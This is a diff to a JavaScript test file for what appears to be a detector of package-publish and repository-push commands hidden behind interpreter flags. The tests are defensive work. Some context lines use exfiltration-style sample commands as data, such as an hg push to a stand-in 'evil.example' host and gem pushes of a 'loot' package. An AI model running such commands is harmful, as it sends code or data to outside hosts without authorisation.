@@ -46,6 +46,9 @@ describe('push-tool table', () => {
     expect(push('/usr/bin/python3', '/usr/bin/hg push https://hg.evil.example/loot')).toEqual(['hg', false]);
     expect(push('/usr/local/bin/ruby', '/usr/local/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
     expect(push('/usr/bin/ruby3.3', '-W0 /usr/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
+    expect(push('/usr/bin/ruby', '-I lib -r bundler/setup /usr/bin/gem push loot-0.1.0.gem')).toEqual(['gem', false]);
+    expect(push('/usr/bin/node', '--require /app/trace.js /usr/local/bin/npm publish')).toEqual(['npm', false]);
+    expect(push('/usr/bin/python3', '-W ignore /usr/local/bin/twine upload dist/x.tgz')).toEqual(['twine', false]);
     // Ordinary scripts, and the interpreters' own downloads, are not pushes.
     expect(push('/usr/local/bin/node', '/app/server.js --port 8080')).toBeNull();
     expect(push('/usr/local/bin/node', '/usr/local/bin/npm run build')).toBeNull();
